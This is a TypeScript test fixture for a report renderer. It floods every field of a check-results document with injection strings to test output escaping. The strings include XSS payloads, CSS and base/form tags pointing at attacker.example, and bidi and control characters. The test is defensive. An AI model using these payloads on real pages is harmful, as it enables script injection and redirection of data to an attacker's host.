import type { CheckResult, ResultDocument } from '../../../src/checks/result/report.js'
import { sixtyChecks } from './sixty-checks.js'

/** Text that would do something in a page which does not escape it. */
const attacks: readonly string[] = [
  '<script>globalThis.attacked = 1</script>',
  '</script><script>globalThis.attacked = 1</script>',
  '</style><script>globalThis.attacked = 1</script>',
  '</title><script>globalThis.attacked = 1</script>',
  '--><img src=x onerror="globalThis.attacked = 1">',
  '"><svg onload="globalThis.attacked = 1">',
  "' onfocus='globalThis.attacked = 1' autofocus='",
  'javascript:globalThis.attacked = 1',
  '"); } body { background: url(https://attacker.example/x) } @import "https://attacker.example/y";',
  '<base href="https://attacker.example/"><form action="https://attacker.example/">',
  '&lt;script&gt; &#60;script&#62; &amp;',
  '\u0000\u0007\u001B[2J\u009B2J\u202Eevil\u2066\u200B\uFEFF\u2028',
  'a\uD800b \uDC00',
  'Z\u0351\u036B\u0343'.repeat(200),
  'שלום '.repeat(40),
  'x'.repeat(5000),
  '`<b>` `unclosed',
]

const all = attacks.join('\n')

/** A run whose every text attacks the page; what must be one of fixed words stays one. */
export function hostileDocument(): ResultDocument {
  const document = sixtyChecks()
  const changed = (check: CheckResult, attack: string): CheckResult => ({
    ...check,
    id: `${check.id}${attack}`,
    title: all,
    message: check.status === 'pass' ? '' : all,
    facts: { [attack]: all, nested: { [all]: [attack, { deep: [{ deeper: { deepest: attack } }] }] } },
    failedExpectations: [{ that: all, message: attack, values: { [attack]: all } }],
    blockedBy: check.blockedBy === null ? null : attack,
    needs: [attack, ...(check.needs ?? [])],
    waiver: { reason: all, owner: attack, ticket: attack, expires: attack },
    why: all,
    fix: all,
    source: attack,
    startedAt: check.startedAt === null ? attack : check.startedAt,
    definition: { file: attack, line: 1 },
    subject: { file: attack, line: 1, variable: attack },
  })
  return {
    ...document,
    tool: { name: 'preflight', version: all },
    run: {
      id: all,
      startedAt: all,
      finishedAt: all,
      durationMs: 1,
      profile: all,
      deployment: all,
      host: all,
      definitionsDigest: all,
      git: { commit: all, dirty: true },
      selection: { selectors: [all], stages: [all], skipped: [...attacks], deselectedIds: [...attacks] },
    },
    checks: document.checks.map((check, index) => changed(check, attacks[index % attacks.length] ?? '')),
    notices: [...attacks],
    diagnostics: attacks.map((attack) => ({
      file: attack,
      line: 1,
      column: 1,
      code: attack,
      message: all,
      hint: attack,
    })),
  }
}

/** A run of so many checks, each needing the one before it. */
export function manyChecks(count: number, change: Partial<CheckResult> = {}): ResultDocument {
  const document = sixtyChecks()
  const [first] = document.checks
  const idOf = (index: number): string => `demo/config/check-${String(index).padStart(4, '0')}`
  const checks = Array.from({ length: count }, (_, index): CheckResult => ({
    ...first!,
    id: idOf(index),
    stage: 'config',
    needs: index === 0 ? [] : [idOf(index - 1)],
    ...change,
  }))
  return { ...document, counts: { ...document.counts, declared: count, selected: count, pass: count }, checks }
}
